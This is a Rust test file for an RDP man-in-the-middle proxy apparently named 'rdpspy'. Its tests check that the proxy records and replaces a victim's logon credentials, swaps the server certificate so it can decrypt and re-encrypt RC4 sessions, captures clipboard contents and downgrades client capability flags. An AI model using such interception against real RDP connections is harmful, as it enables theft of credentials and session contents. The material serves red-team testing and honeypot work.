use std::io;
use std::sync::{Arc, Mutex};

use rdpspy_pdu::crypto::{
    compute_mac_signature, decrypt_with_private_key, derive_session_keys, encrypt_with_public_key,
    parse_server_certificate, Rc4,
};
use rdpspy_pdu::cursor::ReadCursor;
use rdpspy_pdu::gcc::{
    ClientCoreData, ClientCoreOptionalData, ClientEarlyCapabilityFlags, ClientGccBlocks, ClientNetworkData,
    ClientSecurityData, ColorDepth, ConferenceCreateRequest, ConferenceCreateResponse, EncryptionLevel,
    EncryptionMethod, KeyboardType, RdpVersion, SecureAccessSequence, ServerCoreData, ServerGccBlocks,
    ServerNetworkData, ServerSecurityData,
};
use rdpspy_pdu::nego::{RequestFlags, ResponseFlags, SecurityProtocol};
use rdpspy_pdu::rdp::client_info::Credentials;
use rdpspy_pdu::rdp::headers::{BasicSecurityHeader, ShareControlPduType};
use rdpspy_pdu::rdp::SecurityExchangePdu;
use rsa::traits::{PrivateKeyParts as _, PublicKeyParts as _};

use super::*;
use crate::recorder::{PlayerMessagePdu, RecordingSink};

#[derive(Clone, Default)]
struct VecSink {
    frames: Arc<Mutex<Vec<Vec<u8>>>>,
}

impl VecSink {
    fn recorded(&self) -> Vec<PlayerMessagePdu> {
        self.frames
            .lock()
            .unwrap()
            .iter()
            .map(|frame| decode::<PlayerMessagePdu>(frame).unwrap())
            .collect()
    }
}

impl RecordingSink for VecSink {
    fn sink_name(&self) -> &str {
        "test"
    }

    fn write_frame(&mut self, frame: &[u8]) -> io::Result<()> {
        self.frames.lock().unwrap().push(frame.to_vec());
        Ok(())
    }
}

fn scratch_config(name: &str) -> MitmConfig {
    MitmConfig {
        replacement_username: None,
        replacement_password: None,
        artifacts_dir: std::env::temp_dir()
            .join("rdpspy-tests")
            .join(format!("mitm-{}-{}", name, std::process::id())),
    }
}

fn new_mitm(config: MitmConfig) -> (RdpMitm, VecSink) {
    let sink = VecSink::default();
    let recorder = Recorder::new(vec![Box::new(sink.clone())]);
    (RdpMitm::new(config, recorder), sink)
}

fn tpkt(payload: &[u8]) -> Vec<u8> {
    let mut frame = vec![0x03, 0x00];
    frame.extend_from_slice(&u16::try_from(payload.len() + 4).unwrap().to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}

fn x224_data(payload: &[u8]) -> Vec<u8> {
    let mut body = vec![0x02, 0xF0, 0x80];
    body.extend_from_slice(payload);
    body
}

fn mcs_frame<T: rdpspy_pdu::PduEncode>(pdu: &T) -> Vec<u8> {
    tpkt(&x224_data(&encode_vec(pdu).unwrap()))
}

/// Strips TPKT + X.224 data headers off a forwarded frame.
fn unwrap_mcs(frame: &[u8]) -> &[u8] {
    assert_eq!(frame[0], 0x03);
    &frame[7..]
}

fn write_back_payloads(actions: &[MitmAction]) -> Vec<Vec<u8>> {
    actions
        .iter()
        .filter_map(|action| match action {
            MitmAction::WriteBack(bytes) => Some(bytes.clone()),
            _ => None,
        })
        .collect()
}

fn write_front_payloads(actions: &[MitmAction]) -> Vec<Vec<u8>> {
    actions
        .iter()
        .filter_map(|action| match action {
            MitmAction::WriteFront(bytes) => Some(bytes.clone()),
            _ => None,
        })
        .collect()
}

fn client_gcc_blocks(encryption: EncryptionMethod) -> ClientGccBlocks {
    ClientGccBlocks {
        core: ClientCoreData {
            version: RdpVersion::V5_PLUS,
            desktop_width: 1024,
            desktop_height: 768,
            color_depth: ColorDepth::Bpp24,
            sec_access_sequence: SecureAccessSequence::Del,
            keyboard_layout: 0x409,
            client_build: 2600,
            client_name: "VICTIM".to_owned(),
            keyboard_type: KeyboardType::IbmEnhanced,
            keyboard_subtype: 0,
            keyboard_functional_keys_count: 12,
            ime_file_name: String::new(),
            optional_data: ClientCoreOptionalData {
                post_beta2_color_depth: Some(ColorDepth::Bpp24),
                client_product_id: Some(1),
                serial_number: Some(0),
                high_color_depth: Some(rdpspy_pdu::gcc::HighColorDepth::Bpp24),
                supported_color_depths: Some(rdpspy_pdu::gcc::SupportedColorDepths::all()),
                early_capability_flags: Some(
                    ClientEarlyCapabilityFlags::SUPPORT_ERR_INFO_PDU | ClientEarlyCapabilityFlags::WANT_32_BPP_SESSION,
                ),
                ..Default::default()
            },
        },
        security: ClientSecurityData {
            encryption_methods: encryption,
            ext_encryption_methods: 0,
        },
        network: Some(ClientNetworkData { channels: vec![] }),
        cluster: None,
        monitor: None,
        message_channel: None,
        multi_transport_channel: None,
    }
}

fn connect_initial(encryption: EncryptionMethod) -> ConnectInitial {
    ConnectInitial::with_conference_create_request(ConferenceCreateRequest {
        gcc_blocks: client_gcc_blocks(encryption),
    })
}

fn connect_response(security: ServerSecurityData) -> ConnectResponse {
    ConnectResponse {
        conference_create_response: ConferenceCreateResponse {
            user_id: 1002,
            gcc_blocks: ServerGccBlocks {
                core: ServerCoreData {
                    version: RdpVersion::V5_PLUS,
                    optional_data: Default::default(),
                },
                network: ServerNetworkData {
                    io_channel: 1003,
                    channel_ids: vec![],
                },
                security,
                message_channel: None,
                multi_transport_channel: None,
            },
        },
        called_connect_id: 0,
        domain_parameters: rdpspy_pdu::mcs::DomainParameters::target(),
    }
}

fn drive_tls_handshake(mitm: &mut RdpMitm) {
    let request = ConnectionRequest {
        nego_data: None,
        flags: RequestFlags::empty(),
        protocol: SecurityProtocol::SSL,
    };
    let actions = mitm.bytes_from_front(&tpkt(&encode_vec(&request).unwrap()));
    assert_eq!(write_back_payloads(&actions).len(), 1);

    let confirm = ConnectionConfirm::Response {
        flags: ResponseFlags::empty(),
        protocol: SecurityProtocol::SSL,
    };
    let actions = mitm.bytes_from_back(&tpkt(&encode_vec(&confirm).unwrap()));
    assert!(actions.contains(&MitmAction::StartTlsBack));
    assert!(actions.contains(&MitmAction::StartTlsFront));
}

fn drive_mcs_to_io_channel(mitm: &mut RdpMitm, security: ServerSecurityData) -> Vec<MitmAction> {
    let initial = connect_initial(if security.encryption_method.is_empty() {
        EncryptionMethod::empty()
    } else {
        security.encryption_method
    });
    let actions = mitm.bytes_from_front(&mcs_frame(&initial));
    assert_eq!(write_back_payloads(&actions).len(), 1);

    let response = connect_response(security);
    let actions = mitm.bytes_from_back(&mcs_frame(&response));
    assert_eq!(write_front_payloads(&actions).len(), 1);
    let response_to_victim = actions;

    let actions = mitm.bytes_from_front(&mcs_frame(&McsMessage::ErectDomainRequest(
        rdpspy_pdu::mcs::ErectDomainPdu {
            sub_height: 0,
            sub_interval: 0,
        },
    )));
    assert_eq!(write_back_payloads(&actions).len(), 1);

    let actions = mitm.bytes_from_front(&mcs_frame(&McsMessage::AttachUserRequest(AttachUserRequest)));
    assert_eq!(write_back_payloads(&actions).len(), 1);

    let actions = mitm.bytes_from_back(&mcs_frame(&McsMessage::AttachUserConfirm(AttachUserConfirm {
        result: 0,
        initiator_id: 1002,
    })));
    assert_eq!(write_front_payloads(&actions).len(), 1);

    let actions = mitm.bytes_from_front(&mcs_frame(&McsMessage::ChannelJoinRequest(ChannelJoinRequest {
        initiator_id: 1002,
        channel_id: 1003,
    })));
    assert_eq!(write_back_payloads(&actions).len(), 1);

    let mut all = response_to_victim;
    all.extend(mitm.bytes_from_back(&mcs_frame(&McsMessage::ChannelJoinConfirm(ChannelJoinConfirm {
        result: 0,
        initiator_id: 1002,
        requested_channel_id: 1003,
        channel_id: 1003,
    }))));
    all
}

#[test]
fn tls_handshake_forwards_and_upgrades_both_sides() {
    let (mut mitm, _sink) = new_mitm(scratch_config("tls"));
    drive_tls_handshake(&mut mitm);
}

#[test]
fn nla_failure_is_reported_and_both_sides_close() {
    let (mut mitm, sink) = new_mitm(scratch_config("nla"));

    let request = ConnectionRequest {
        nego_data: None,
        flags: RequestFlags::empty(),
        protocol: SecurityProtocol::SSL | SecurityProtocol::HYBRID,
    };
    mitm.bytes_from_front(&tpkt(&encode_vec(&request).unwrap()));

    let failure = ConnectionConfirm::Failure {
        code: FailureCode::HYBRID_REQUIRED_BY_SERVER,
    };
    let actions = mitm.bytes_from_back(&tpkt(&encode_vec(&failure).unwrap()));

    assert_eq!(write_front_payloads(&actions).len(), 1);
    assert!(actions.contains(&MitmAction::Close));

    let recorded = sink.recorded();
    assert_eq!(recorded.last().unwrap().message_type, PlayerMessageType::ConnectionClose);
}

#[test]
fn unknown_tpkt_header_tears_the_session_down() {
    let (mut mitm, sink) = new_mitm(scratch_config("unknown-header"));

    let actions = mitm.bytes_from_back(&[0xFF, 0x00, 0x00, 0x04]);

    assert!(actions.contains(&MitmAction::Close));
    let recorded = sink.recorded();
    assert_eq!(recorded.last().unwrap().message_type, PlayerMessageType::ConnectionClose);
}

#[test]
fn client_data_is_recorded_and_32bpp_flag_cleared() {
    let (mut mitm, sink) = new_mitm(scratch_config("client-data"));
    drive_tls_handshake(&mut mitm);

    let initial = connect_initial(EncryptionMethod::empty());
    let actions = mitm.bytes_from_front(&mcs_frame(&initial));

    // The forwarded Connect Initial no longer asks for 32 bpp.
    let forwarded = &write_back_payloads(&actions)[0];
    let decoded: ConnectInitial = decode(unwrap_mcs(forwarded)).unwrap();
    let flags = decoded
        .conference_create_request
        .gcc_blocks
        .core
        .optional_data
        .early_capability_flags
        .unwrap();
    assert!(!flags.contains(ClientEarlyCapabilityFlags::WANT_32_BPP_SESSION));
    assert!(flags.contains(ClientEarlyCapabilityFlags::SUPPORT_ERR_INFO_PDU));

    // The recording kept one CLIENT_DATA event with the flag cleared too.
    let recorded = sink.recorded();
    let client_data: Vec<_> = recorded
        .iter()
        .filter(|pdu| pdu.message_type == PlayerMessageType::ClientData)
        .collect();
    assert_eq!(client_data.len(), 1);

    let blocks: ClientGccBlocks = decode(&client_data[0].payload).unwrap();
    let recorded_flags = blocks.core.optional_data.early_capability_flags.unwrap();
    assert!(!recorded_flags.contains(ClientEarlyCapabilityFlags::WANT_32_BPP_SESSION));
}

#[test]
fn credentials_are_recorded_and_replaced() {
    let mut config = scratch_config("credentials");
    config.replacement_username = Some("pwned".to_owned());
    config.replacement_password = Some("letmein".to_owned());

    let (mut mitm, sink) = new_mitm(config);
    drive_tls_handshake(&mut mitm);
    drive_mcs_to_io_channel(&mut mitm, ServerSecurityData::no_security());

    let info = ClientInfo {
        credentials: Credentials {
            username: "victim".to_owned(),
            password: "hunter2".to_owned(),
            domain: None,
        },
        code_page: 0,
        flags: ClientInfoFlags::UNICODE | ClientInfoFlags::MOUSE | ClientInfoFlags::COMPRESSION,
        compression_type: CompressionType::K64,
        alternate_shell: String::new(),
        work_dir: String::new(),
        extra_info: Vec::new(),
    };

    // TLS mode: the victim sends the client info with a basic security
    // header carrying INFO_PKT.
    let mut wrapped = encode_vec(&BasicSecurityHeader {
        flags: BasicSecurityHeaderFlags::INFO_PKT,
    })
    .unwrap();
    wrapped.extend_from_slice(&encode_vec(&info).unwrap());

    let actions = mitm.bytes_from_front(&mcs_frame(&McsMessage::SendDataRequest(SendDataRequest {
        initiator_id: 1002,
        channel_id: 1003,
        user_data: wrapped,
    })));

    // Forwarded: replaced credentials, autologon set, compression cleared.
    let forwarded = &write_back_payloads(&actions)[0];
    let message: McsMessage = decode(unwrap_mcs(forwarded)).unwrap();
    let McsMessage::SendDataRequest(send_data) = message else {
        panic!("expected a send data request");
    };

    let mut src = ReadCursor::new(&send_data.user_data);
    let header: BasicSecurityHeader = rdpspy_pdu::decode_cursor(&mut src).unwrap();
    assert!(header.flags.contains(BasicSecurityHeaderFlags::INFO_PKT));

    let forwarded_info: ClientInfo = decode(src.remaining()).unwrap();
    assert_eq!(forwarded_info.credentials.username, "pwned");
    assert_eq!(forwarded_info.credentials.password, "letmein");
    assert!(forwarded_info.flags.contains(ClientInfoFlags::AUTOLOGON));
    assert!(!forwarded_info.flags.contains(ClientInfoFlags::COMPRESSION));
    assert_eq!(forwarded_info.compression_type, CompressionType::K8);

    // Recorded: the original credentials, untouched.
    let recorded = sink.recorded();
    let client_info: Vec<_> = recorded
        .iter()
        .filter(|pdu| pdu.message_type == PlayerMessageType::ClientInfo)
        .collect();
    assert_eq!(client_info.len(), 1);

    let recorded_info: ClientInfo = decode(&client_info[0].payload).unwrap();
    assert_eq!(recorded_info.credentials.username, "victim");
    assert_eq!(recorded_info.credentials.password, "hunter2");
}

#[test]
fn rc4_session_is_reencrypted_with_distinct_keys() {
    let (mut mitm, _sink) = new_mitm(scratch_config("rc4"));

    // Plain RDP security: no TLS.
    let request = ConnectionRequest {
        nego_data: None,
        flags: RequestFlags::empty(),
        protocol: SecurityProtocol::RDP,
    };
    mitm.bytes_from_front(&tpkt(&encode_vec(&request).unwrap()));

    let confirm = ConnectionConfirm::Response {
        flags: ResponseFlags::empty(),
        protocol: SecurityProtocol::RDP,
    };
    let actions = mitm.bytes_from_back(&tpkt(&encode_vec(&confirm).unwrap()));
    assert!(!actions.contains(&MitmAction::StartTlsBack));

    // The test plays the real server and owns its RSA key.
    let mut rng = rand::thread_rng();
    let server_key = rsa::RsaPrivateKey::new(&mut rng, 1024).unwrap();
    let server_modulus_be = server_key.n().to_bytes_be();
    let server_private_be = server_key.d().to_bytes_be();

    let mut server_modulus_le: Vec<u8> = server_modulus_be.iter().rev().copied().collect();
    server_modulus_le.extend_from_slice(&[0u8; 8]);

    let server_cert = encode_vec(&rdpspy_pdu::crypto::ProprietaryCertificate {
        public_key: rdpspy_pdu::crypto::RsaPublicKey {
            public_exponent: 0x10001,
            modulus: server_modulus_le,
        },
        signature: vec![0; 72],
    })
    .unwrap();

    let server_random = [0x22u8; 32];
    let security = ServerSecurityData {
        encryption_method: EncryptionMethod::BIT_128,
        encryption_level: EncryptionLevel::ClientCompatible,
        server_random: Some(server_random),
        server_cert,
    };

    let actions = drive_mcs_to_io_channel(&mut mitm, security);

    // The Connect Response forwarded to the victim carries a swapped
    // certificate whose key the proxy can invert.
    let response_frame = &write_front_payloads(&actions)[0];
    let forwarded_response: ConnectResponse = decode(unwrap_mcs(response_frame)).unwrap();
    let swapped_cert = &forwarded_response.conference_create_response.gcc_blocks.security.server_cert;
    let mitm_certificate = parse_server_certificate(swapped_cert).unwrap();
    assert_ne!(mitm_certificate.public_key.modulus.len(), 0);

    // The proxy ran its own security exchange towards the server; recover
    // its client random with the server's private key.
    let exchange_frame = write_back_payloads(&actions)
        .into_iter()
        .find(|frame| {
            let message: Result<McsMessage, _> = decode(unwrap_mcs(frame));
            matches!(message, Ok(McsMessage::SendDataRequest(_)))
        })
        .expect("the proxy should have sent its security exchange");

    let McsMessage::SendDataRequest(exchange) = decode(unwrap_mcs(&exchange_frame)).unwrap() else {
        unreachable!();
    };

    let mut src = ReadCursor::new(&exchange.user_data);
    let header: BasicSecurityHeader = rdpspy_pdu::decode_cursor(&mut src).unwrap();
    assert!(header.flags.contains(BasicSecurityHeaderFlags::EXCHANGE_PKT));
    let exchange_pdu: SecurityExchangePdu = rdpspy_pdu::decode_cursor(&mut src).unwrap();

    let mut proxy_client_random =
        decrypt_with_private_key(&exchange_pdu.encrypted_client_random, &server_modulus_be, &server_private_be)
            .unwrap();
    proxy_client_random.resize(32, 0);

    let back_keys = derive_session_keys(&proxy_client_random, &server_random, EncryptionMethod::BIT_128).unwrap();

    // The victim runs its own security exchange against the swapped key.
    let victim_random = [0x5Au8; 32];
    let encrypted_victim_random = encrypt_with_public_key(&victim_random, &mitm_certificate.public_key).unwrap();

    let mut exchange_payload = encode_vec(&BasicSecurityHeader {
        flags: BasicSecurityHeaderFlags::EXCHANGE_PKT,
    })
    .unwrap();
    exchange_payload.extend_from_slice(
        &encode_vec(&SecurityExchangePdu {
            encrypted_client_random: encrypted_victim_random,
        })
        .unwrap(),
    );

    mitm.bytes_from_front(&mcs_frame(&McsMessage::SendDataRequest(SendDataRequest {
        initiator_id: 1002,
        channel_id: 1003,
        user_data: exchange_payload,
    })));

    let front_keys = derive_session_keys(&victim_random, &server_random, EncryptionMethod::BIT_128).unwrap();

    // The victim sends an encrypted Confirm Active.
    let plaintext = encode_vec(&ShareControlHeader {
        pdu_type: ShareControlPduType::ConfirmActivePdu,
        pdu_source: 1002,
        share_id: 0x03EA,
        data: vec![0xAA; 24],
    })
    .unwrap();

    let mac = compute_mac_signature(&front_keys.mac_key, &plaintext);
    let ciphertext = Rc4::new(&front_keys.client_encrypt_key).apply(&plaintext);

    let mut encrypted_payload = encode_vec(&BasicSecurityHeader {
        flags: BasicSecurityHeaderFlags::ENCRYPT,
    })
    .unwrap();
    encrypted_payload.extend_from_slice(&mac);
    encrypted_payload.extend_from_slice(&ciphertext);

    let actions = mitm.bytes_from_front(&mcs_frame(&McsMessage::SendDataRequest(SendDataRequest {
        initiator_id: 1002,
        channel_id: 1003,
        user_data: encrypted_payload.clone(),
    })));

    // The forwarded PDU is re-encrypted with the server-side keys: different
    // ciphertext, identical plaintext.
    let forwarded = &write_back_payloads(&actions)[0];
    let McsMessage::SendDataRequest(send_data) = decode(unwrap_mcs(forwarded)).unwrap() else {
        panic!("expected a send data request");
    };

    let mut src = ReadCursor::new(&send_data.user_data);
    let header: BasicSecurityHeader = rdpspy_pdu::decode_cursor(&mut src).unwrap();
    assert!(header.flags.contains(BasicSecurityHeaderFlags::ENCRYPT));

    let body = src.read_remaining();
    let (forwarded_mac, forwarded_ciphertext) = body.split_at(8);

    assert_ne!(forwarded_ciphertext, &ciphertext[..]);

    let decrypted = Rc4::new(&back_keys.client_encrypt_key).apply(forwarded_ciphertext);
    assert_eq!(decrypted, plaintext);
    assert_eq!(
        forwarded_mac,
        compute_mac_signature(&back_keys.mac_key, &decrypted).as_slice()
    );
}

#[test]
fn clipboard_contents_are_captured_and_swallowed() {
    use rdpspy_cliprdr::{
        Capabilities, CapabilitySet, ClipboardFormat, ClipboardGeneralCapabilityFlags, ClipboardPdu,
        FormatDataResponse, FormatList, GeneralCapabilitySet, FORMAT_ID_UNICODE_TEXT,
    };
    use rdpspy_pdu::gcc::{ChannelDef, ChannelName, ChannelOptions};

    let (mut mitm, sink) = new_mitm(scratch_config("clipboard"));
    drive_tls_handshake(&mut mitm);

    // The victim announces the clipboard channel.
    let mut blocks = client_gcc_blocks(EncryptionMethod::empty());
    blocks.network = Some(ClientNetworkData {
        channels: vec![ChannelDef {
            name: ChannelName::from_utf8("cliprdr").unwrap(),
            options: ChannelOptions::INITIALIZED | ChannelOptions::SHOW_PROTOCOL,
        }],
    });
    let initial = ConnectInitial::with_conference_create_request(ConferenceCreateRequest { gcc_blocks: blocks });
    mitm.bytes_from_front(&mcs_frame(&initial));

    // The server maps it to channel id 1004.
    let mut response = connect_response(ServerSecurityData::no_security());
    response.conference_create_response.gcc_blocks.network.channel_ids = vec![1004];
    mitm.bytes_from_back(&mcs_frame(&response));

    mitm.bytes_from_front(&mcs_frame(&McsMessage::AttachUserRequest(AttachUserRequest)));
    mitm.bytes_from_back(&mcs_frame(&McsMessage::AttachUserConfirm(AttachUserConfirm {
        result: 0,
        initiator_id: 1002,
    })));

    for channel_id in [1003u16, 1004] {
        mitm.bytes_from_front(&mcs_frame(&McsMessage::ChannelJoinRequest(ChannelJoinRequest {
            initiator_id: 1002,
            channel_id,
        })));
        mitm.bytes_from_back(&mcs_frame(&McsMessage::ChannelJoinConfirm(ChannelJoinConfirm {
            result: 0,
            initiator_id: 1002,
            requested_channel_id: channel_id,
            channel_id,
        })));
    }

    // Licensing completes; TLS sessions drop the basic security header.
    let mut licensing = encode_vec(&BasicSecurityHeader {
        flags: BasicSecurityHeaderFlags::LICENSE_PKT,
    })
    .unwrap();
    licensing.extend_from_slice(&[0xFF, 0x03, 0x10, 0x00]);
    mitm.bytes_from_back(&mcs_frame(&McsMessage::SendDataIndication(SendDataIndication {
        initiator_id: 1002,
        channel_id: 1003,
        user_data: licensing,
    })));

    let send_clipboard_from_back = |mitm: &mut RdpMitm, pdu: &ClipboardPdu| -> Vec<MitmAction> {
        let message = encode_vec(pdu).unwrap();
        let mut actions = Vec::new();
        for chunk in crate::channels::chunk_message(&message, true).unwrap() {
            actions.extend(mitm.bytes_from_back(&mcs_frame(&McsMessage::SendDataIndication(SendDataIndication {
                initiator_id: 1002,
                channel_id: 1004,
                user_data: chunk,
            }))));
        }
        actions
    };

    // Capabilities, then a format list announcing CF_UNICODETEXT.
    send_clipboard_from_back(
        &mut mitm,
        &ClipboardPdu::Capabilities(Capabilities {
            capabilities: vec![CapabilitySet::General(GeneralCapabilitySet {
                version: 2,
                general_flags: ClipboardGeneralCapabilityFlags::USE_LONG_FORMAT_NAMES,
            })],
        }),
    );

    let formats = vec![ClipboardFormat {
        id: FORMAT_ID_UNICODE_TEXT,
        name: String::new(),
    }];
    let actions = send_clipboard_from_back(
        &mut mitm,
        &ClipboardPdu::FormatList(FormatList::new_unicode(&formats, true).unwrap()),
    );

    // The announcement is forwarded to the victim, and the proxy requests
    // the contents from the announcing side.
    assert!(!write_front_payloads(&actions).is_empty());
    assert!(!write_back_payloads(&actions).is_empty());

    // The server answers the proxy's request: recorded, not forwarded.
    let actions = send_clipboard_from_back(
        &mut mitm,
        &ClipboardPdu::FormatDataResponse(FormatDataResponse::new_unicode_string("hello")),
    );
    assert!(write_front_payloads(&actions).is_empty());

    let recorded = sink.recorded();
    let clipboard: Vec<_> = recorded
        .iter()
        .filter(|pdu| pdu.message_type == PlayerMessageType::ClipboardData)
        .collect();
    assert_eq!(clipboard.len(), 1);

    let captured: ClipboardPdu = decode(&clipboard[0].payload).unwrap();
    match captured {
        ClipboardPdu::FormatDataResponse(response) => assert_eq!(response.to_unicode_string(), "hello"),
        other => panic!("unexpected pdu: {other:?}"),
    }
}

#[test]
fn disconnect_ultimatum_is_mirrored() {
    let (mut mitm, sink) = new_mitm(scratch_config("ultimatum"));
    drive_tls_handshake(&mut mitm);

    let actions = mitm.bytes_from_back(&mcs_frame(&McsMessage::DisconnectProviderUltimatum(
        DisconnectProviderUltimatum::from_reason(DisconnectReason::UserRequested),
    )));

    assert_eq!(write_front_payloads(&actions).len(), 1);
    assert!(actions.contains(&MitmAction::Close));

    let recorded = sink.recorded();
    assert_eq!(recorded.last().unwrap().message_type, PlayerMessageType::ConnectionClose);
}

#[test]
fn peer_close_records_the_end_of_the_session() {
    let (mut mitm, sink) = new_mitm(scratch_config("peer-close"));

    let actions = mitm.peer_closed(Side::Back);
    assert_eq!(actions, vec![MitmAction::Close]);

    // Idempotent: a second close does not duplicate the frame.
    mitm.shutdown();

    let recorded = sink.recorded();
    let closes = recorded
        .iter()
        .filter(|pdu| pdu.message_type == PlayerMessageType::ConnectionClose)
        .count();
    assert_eq!(closes, 1);
}
